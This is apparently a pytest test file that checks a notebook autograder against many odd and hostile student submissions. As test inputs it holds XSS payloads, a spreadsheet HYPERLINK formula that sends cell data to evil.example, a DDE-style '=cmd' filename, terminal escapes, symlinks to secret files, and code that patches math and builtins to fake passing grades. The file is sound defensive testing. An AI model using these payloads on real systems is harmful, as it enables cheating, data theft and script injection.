"""A class of odd submissions, graded in one run: each gets the points it deserves.

Honest ones have all points whatever their files went through; no other one has a point
more, stops another one's grading, or touches anything outside.
"""

import json
import os

import nbformat
import pytest
from graded_course import (
    IMPORTS,
    RIGHT,
    answered,
    linux,
    make,
    run,
    source_notebook,
    table,
)

pytestmark = [pytest.mark.long, linux]

ALL, NONE = ("2", "3"), ("0", "0")
BACK = "has lost nbgrader's marks: imports, double-check, square-check"
# What a student writes; nothing of it may reach a page, a terminal or a table raw.
SCRIPT = "<script>window.ran = 1</script><img src=x onerror='window.ran = 1'>"
FORMULA = '=HYPERLINK("http://evil.example/?"&B2&C2,"details")\n\x1b[2K\rstudent forged'
FORGED = """
kernel = get_ipython().kernel
def tell(kind, **content):
    parent = kernel.get_parent()
    kernel.session.send(kernel.iopub_socket, kind, content=content, parent=parent)
"""


def right(**changes):
    return answered(source_notebook(), RIGHT | changes)


def named(notebook, name):
    return next(
        index
        for index, cell in enumerate(notebook.cells)
        if cell.metadata.get("nbgrader", {}).get("grade_id") == name
    )


def copied(name, to, source=None):
    """A right notebook with one cell twice, as JupyterLab pastes it: mark and all."""
    notebook = right()
    cell = nbformat.from_dict(notebook.cells[named(notebook, name)])
    cell.source, cell.id = source or cell.source, "pasted"
    notebook.cells.insert(to, cell)
    return notebook


def edited(name, source):
    """A right notebook in which one cell reads otherwise."""
    notebook = right()
    notebook.cells[named(notebook, name)].source = source
    return notebook


def without(*names, notebook=None):
    notebook = notebook or right()
    for name in names:
        del notebook.cells[named(notebook, name)]
    return notebook


def with_cell(source, at=0, kind=nbformat.v4.new_code_cell, **changes):
    notebook = right(**changes)
    notebook.cells.insert(at, kind(source))
    return notebook


def remade(change, notebook=None):
    """A right notebook after a function changed it, or each of its cells."""
    notebook = notebook or right()
    change(notebook)
    return notebook


def each(change):
    def all_cells(notebook):
        for cell in notebook.cells:
            change(cell)

    return all_cells


def unmarked(cell):
    cell.metadata.pop("nbgrader", None)


def text(notebook):
    return json.dumps(notebook)  # as it is, while nbformat mends or refuses


def honest():
    """Name, notebook or bytes, remark; all points for each."""
    plain, check = right(), "assert double(3) == 6"
    wrong = "double = lambda x: 6"
    old = nbformat.convert(right(), 4)
    old.nbformat_minor = 2
    for cell in old.cells:
        cell.pop("id")
    yield "right", plain, ""
    yield "answer twice", copied("double-answer", 1, wrong), "double-answer twice"
    yield "draft kept", copied("double-answer", 5, wrong), "double-answer twice"
    yield "check before", copied("double-check", 0), "double-check twice"
    yield "check after", copied("double-check", 5), "double-check twice"
    yield "all twice", remade(lambda n: n.cells.extend(right().cells)), "imports twice"
    yield (
        "no mark left",
        remade(lambda n: n.cells[0].metadata.update(nbgrader={})),
        "has lost nbgrader's marks: imports",
    )
    yield "marks gone", remade(each(unmarked)), BACK
    yield (
        "half a mark",
        remade(lambda n: n.cells[2].metadata.nbgrader.pop("grade_id")),
        ("has lost nbgrader's marks: double-check"),
    )
    yield (
        "mark is a list",
        remade(lambda n: n.cells[2].metadata.update(nbgrader=[1])),
        ("has lost nbgrader's marks: double-check"),
    )
    yield (
        "import added",
        answered(
            edited("imports", f"import numpy as np\n{IMPORTS}"),
            {"double": "double = lambda x: int(np.add(x, x))"},
        ),
        "put back: imports",
    )
    yield "imports gone", without("imports"), "put back: imports"
    yield (
        "answer in check",
        answered(
            edited("double-check", f"{RIGHT['double']}\n{check}"), {"double": "pass"}
        ),
        "put back: double-check",
    )
    yield "black", edited("double-check", f"{check}  \n\n\n"), ""
    yield (
        "answer elsewhere",
        without("double-answer", notebook=with_cell(RIGHT["double"], at=1)),
        "",
    )
    yield "sum is mine", with_cell("sum = max = abs = 0\nmath = random = 1", at=5), ""
    yield "sum is mine early", with_cell("max, abs = 3, None", at=1), ""
    yield "star", right(double=f"from numpy import *\n{RIGHT['double']}"), ""
    yield (
        "skips",
        remade(each(lambda c: c.metadata.update(tags=["skip-execution"]))),
        "",
    )
    yield (
        "Colab",
        remade(
            lambda n: n.metadata.update(
                widgets={"application/vnd.jupyter.widget-state+json": {"a": {}}},
                colab={"provenance": []},
                accelerator="GPU",
            )
        ),
        "",
    )
    yield "no ids", old, ""
    yield "same ids", remade(each(lambda cell: cell.update(id="same"))), ""
    yield "CRLF", remade(each(lambda c: c.update(source=c.source + "\r\n"))), ""
    yield "markdown", remade(lambda n: n.cells[1].update(cell_type="markdown")), ""
    yield "shows much", with_cell("for _ in range(300): print('x' * 10**5)"), ""
    yield (
        "shows html",
        with_cell(
            "from IPython.display import HTML, display\n"
            f"display(HTML({SCRIPT!r}))\nraise ValueError({SCRIPT!r})",
            at=1,
        ),
        "",
    )
    yield (
        "writes html",
        with_cell(
            f"{SCRIPT}\n\n[a](javascript:window.ran=1) <svg onload='window.ran=1'>\n\n"
            "<meta http-equiv=refresh content='0;url=http://evil.example'>",
            kind=nbformat.v4.new_markdown_cell,
        ),
        "",
    )
    yield "raw html", with_cell(SCRIPT, kind=nbformat.v4.new_raw_cell), ""
    yield (
        "forges html",
        with_cell(
            f"{FORGED}tell('stream', name={SCRIPT!r}, text='a')\n"
            f"tell('error', ename={SCRIPT!r}, evalue='', traceback=[{SCRIPT!r}])\n"
            f"tell('display_data', data={{'image/png': {SCRIPT!r}}}, metadata={{}})",
            at=1,
        ),
        "",
    )
    yield (
        "errors",
        with_cell(
            f"{FORGED}for _ in range(16):\n"
            "    tell('error', ename='E', evalue='x' * 10**7, traceback=[])",
            at=1,
        ),
        "",
    )
    yield (
        "deep",
        with_cell(
            "import os\nhome = os.getcwd()\n"
            "os.chdir(os.environ['JUPYTER_RUNTIME_DIR'])\n"
            "for _ in range(3000):\n    os.mkdir('d')\n    os.chdir('d')\n"
            "os.chdir(home)"
        ),
        "",
    )
    yield "Smith [A2] O'Neil", plain, ""
    yield "a*b? {c} 100%", plain, ""
    yield "李雷 👩\u200d🔬", plain, ""


def dishonest():
    """Name, notebook or bytes, points, remark."""
    stands = "replaces what tests stand on"
    yield (
        "fakes",
        right(
            double="class math: isclose = lambda *a: True\n"
            "max = lambda *a: 0\ndouble = lambda x: 6 if x == 3 else 0"
        ),
        ("0", "3"),
        "not Python's own: max",
    )
    yield (
        "patches math",
        right(double="math.isclose = lambda *a, **k: True\ndouble = lambda x: 6"),
        NONE,
        stands,
    )
    yield (
        "patches max",
        right(
            double="import builtins\nown = max\n"
            "builtins.max = lambda *a, **k: a[0] if a[-1] == -1 else own(*a, **k)\n"
            "double = lambda x: 6"
        ),
        NONE,
        stands,
    )
    yield (
        "swaps a module",
        right(
            double="import sys, types\nfake = types.ModuleType('math')\n"
            "fake.isclose = lambda *a: True\nsys.modules['math'] = fake"
        ),
        NONE,
        stands,
    )
    yield "no check", without("double-check"), ("0", "3"), "no cell double-check"
    yield (
        "stops",
        right(double=f"class Stopped(Exception): pass\nraise Stopped({FORMULA!r})"),
        ("0", "3"),
        "",
    )
    yield (
        "remembers",
        right(double=f"raise MemoryError({FORMULA!r})"),
        ("0", "3"),
        ("memory"),
    )
    yield (
        "one message",
        right(square=f"{RIGHT['square']}\nprint('x' * 2 * 10**8)"),
        ("2", "0"),
        ("what it shows has no end: over 128 MB at once?"),
    )
    yield (
        "no marks",
        remade(
            each(unmarked),
            answered(without("double-check", "square-check", "imports"), {}),
        ),
        NONE,
        "has lost nbgrader's marks; put back: imports",
    )
    yield "UTF-16", text(right()).encode("utf-16"), NONE, "expected UTF-8, got UTF-16"
    latin = text(with_cell("'ü'")).replace("\\u00fc", "ü").encode("latin-1")
    yield "latin-1", latin, NONE, "expected UTF-8, got another encoding"
    yield "nested", b"[" * 10**6, NONE, "not a notebook"
    yield "a list", b"[]", NONE, "not a notebook"
    yield "nothing", b"", NONE, "not a notebook"
    yield "cells are words", b'{"nbformat": 4, "cells": ["a"]}', NONE, "not a notebook"
    yield (
        "many",
        remade(
            lambda n: n.cells.extend(
                nbformat.v4.new_code_cell("1") for _ in range(2000)
            )
        ),
        NONE,
        "expected at most 1000 cells, got 2005",
    )
    yield "long", with_cell("#" * 2 * 2**20), NONE, "expected at most 1048576 letters"


def write(folder, student, given):
    path = folder / "submitted" / student / "tiny" / "tiny.ipynb"
    path.parent.mkdir(parents=True)
    path.write_bytes(given if isinstance(given, bytes) else text(given).encode())


def on_the_disk(folder, secret):
    """Submissions that are odd as files; rows of name, points, remark."""
    place, good = folder / "submitted", text(right()).encode()
    rows = [
        ("Copy of tiny.ipynb", "Copy of tiny.ipynb is not its name, but was graded"),
        ("tiny (1).ipynb", "tiny (1).ipynb is not its name, but was graded"),
        ("TINY.IPYNB", "TINY.IPYNB is not its name, but was graded"),
        ("tiny.ipynb.txt", "tiny.ipynb.txt is not its name, but was graded"),
    ]
    for name, _ in rows:
        (place / name / "tiny").mkdir(parents=True)
        (place / name / "tiny" / name).write_bytes(good)
    rows = [(name, ALL, remark) for name, remark in rows]

    def beside(student, given=good):
        write(folder, student, given)
        return place / student / "tiny"

    beside("mark of bytes", b"\xef\xbb\xbf" + good)
    (beside("time") / "timestamp.txt").write_text("soon")
    two = beside("two files")
    (two / "notes.ipynb").write_text("{}")
    (two / "tiny.ipynb").rename(two / "mine.ipynb")
    with open(os.fsencode(beside("bytes")) + b"/L\xf6sung.ipynb", "wb"):
        pass
    for name in (b"M\xfcller", b"line\nbreak", b"\x1b[2Kescape"):
        os.makedirs(os.fsencode(place) + b"/" + name + b"/tiny")
        with open(os.fsencode(place) + b"/" + name + b"/tiny/tiny.ipynb", "wb") as file:
            file.write(good)
    beside("=1+1")
    links = beside("links beside")
    (links / "notes.txt").symlink_to(secret)
    (links / "grades.db").symlink_to("../../../gradebook.db")
    (links / "data.csv").symlink_to("/dev/zero")
    (links / "folder").symlink_to("/")
    os.mkfifo(links / "pipe")
    (links / ".ipynb_checkpoints").mkdir()
    (links / "a" / "b").mkdir(parents=True)
    (links / "=cmd|1!A1.ipynb").write_text("{}")
    rows += [
        ("mark of bytes", ALL, ""),
        ("time", ALL, "timestamp.txt is no time"),
        ("two files", ALL, "mine.ipynb is not its name, but was graded; notes.ipynb"),
        ("bytes", ALL, "L%F6sung.ipynb is not graded"),
        ("M%FCller", ALL, ""),
        ("line%0Abreak", ALL, ""),
        ("%1B[2Kescape", ALL, ""),
        ("'=1+1", ALL, ""),
        ("links beside", ALL, "'=cmd|1!A1.ipynb is not graded"),
    ]
    for name in ("assignment link", "notebook link", "hard link", "pipe", "huge"):
        (place / name).mkdir()
    (place / "assignment link" / "tiny").symlink_to("../../source/tiny")
    (place / "student link").symlink_to("right")
    for name in ("notebook link", "hard link", "pipe", "huge"):
        (place / name / "tiny").mkdir()
    path = "tiny/tiny.ipynb"
    (place / "notebook link" / path).symlink_to("../../right/tiny/tiny.ipynb")
    os.link(folder / "source" / path, place / "hard link" / path)
    os.mkfifo(place / "pipe" / path)
    with open(place / "huge" / path, "wb") as file:
        file.truncate(2**33)
    return rows + [
        ("assignment link", NONE, "expected the folder tiny, got a link"),
        ("student link", NONE, "expected the folder student link, got a link"),
        ("notebook link", NONE, "expected the file tiny.ipynb, got a link"),
        ("hard link", NONE, "expected the file tiny.ipynb, got a link"),
        ("pipe", NONE, "expected the file tiny.ipynb, got none"),
        ("huge", NONE, "expected at most 20 MB, got 8192"),
    ]


def on_disk(folder):
    """What lies in a folder, links not followed: names, sizes, times of change."""
    found = []
    for place, folders, files in os.walk(os.fsencode(folder)):
        for path in sorted(os.path.join(place, name) for name in folders + files):
            status = os.lstat(path)
            found.append([repr(path), status.st_size, status.st_mtime_ns])
    return sorted(found)


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """The course's folder, what each row should be, what the run printed."""
    folder = make(tmp_path_factory.mktemp("a [class] of*60"))
    secret = folder.parent / "secret.txt"
    secret.write_text("a secret of the teacher")
    expected = {}
    for name, given, remark in honest():
        write(folder, name, given)
        expected[name] = ALL, remark
    for name, given, points, remark in dishonest():
        write(folder, name, given)
        expected[name] = points, remark
    expected |= {
        n: (points, remark) for n, points, remark in on_the_disk(folder, secret)
    }
    for name in (".ipynb_checkpoints", "__MACOSX", "lost+found"):
        (folder / "submitted" / name / "tiny").mkdir(parents=True)
    (folder / "before.json").write_text(json.dumps(on_disk(folder / "submitted")))
    options = ("--seconds", 20, "--memory", 4)
    done = run("tools.course.grade", folder, "tiny", *options, encoding="utf-8")
    return folder, expected, done


def test_each_of_the_class_gets_the_points_that_it_deserves(graded):
    folder, expected, done = graded
    assert done.returncode == 0, done.stderr
    found = table(folder)
    assert len(expected) >= 60 and set(found) == set(expected)
    points = {name: (row["double"], row["square"]) for name, row in found.items()}
    assert points == {name: points for name, (points, _) in expected.items()}
    odd = {
        name: row["remarks"]
        for name, row in found.items()
        if not row["remarks"].startswith(expected[name][1])
        or bool(row["remarks"]) != bool(expected[name][1])
    }
    assert not odd
    for name in ("no check", "Copy of tiny.ipynb", "bytes"):  # and nothing beside
        assert found[name]["remarks"] == expected[name][1]


def test_no_file_but_a_notebook_is_copied_and_no_submission_is_touched(graded):
    folder, _, _ = graded
    for place, name in (("autograded", "tiny.ipynb"), ("feedback", "tiny.html")):
        files = [path for path in (folder / place).rglob("*") if not path.is_dir()]
        assert files and {path.name for path in files} == {name}
        assert not any(path.is_symlink() for path in files)
        assert max(path.stat().st_size for path in files) < 25 * 2**20
    assert on_disk(folder / "submitted") == json.loads(
        (folder / "before.json").read_text()
    )
    assert not (folder / ".clean").exists() and not (folder / ".pages").exists()


def test_nothing_that_a_student_wrote_is_a_formula_or_controls_a_terminal(graded):
    folder, expected, done = graded
    written = (folder / "grades-tiny.csv").read_bytes()
    assert written.startswith(b"\xef\xbb\xbf") and written.count(b"\r\n") == len(
        written.splitlines()
    )
    cells = [cell for row in table(folder).values() for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")]
    assert all(cell.replace("\u200d", "").isprintable() for cell in cells)
    lines = done.stdout.splitlines()
    assert sum(line.startswith("student ") for line in lines) == len(expected)
    assert all(line.replace("\u200d", "").isprintable() for line in lines)
    assert "no students: .ipynb_checkpoints, __MACOSX, lost+found" in lines


@pytest.mark.parametrize(
    "student", ["shows html", "writes html", "raw html", "forges html"]
)
def test_a_page_runs_no_script_of_a_student_and_fetches_nothing(
    graded, open_page, student
):
    folder, _, _ = graded
    file = folder / "feedback" / student / "tiny" / "tiny.html"
    assert "(Score: 5.0 / 5.0)" in file.read_text("utf-8")
    page = open_page(file)
    for link in page.locator("a[href^='javascript:']").all():
        link.click()
    assert page.evaluate("typeof window.ran") == "undefined"
    assert not [url for url in page.requests if not url.startswith(("file:", "data:"))]
    assert page.locator("meta[http-equiv=Content-Security-Policy]").count() == 1
    assert page.locator("script, meta[http-equiv=refresh], svg, iframe").count() == 0


def test_one_late_student_is_graded_alone_and_the_table_keeps_the_others(graded):
    folder, _, _ = graded
    before, late = table(folder), "Łukasz ü"
    write(folder, late, right())
    ascii_terminal = os.environ | {"PYTHONIOENCODING": "ascii", "PYTHONUTF8": "0"}
    named = f"--student={late}"
    done = run("tools.course.grade", folder, "tiny", named, env=ascii_terminal)
    assert done.returncode == 0, done.stderr
    assert done.stdout.count("student ") == 1
    after = table(folder)
    assert after.pop(late)["sum"] == "5" and after == before
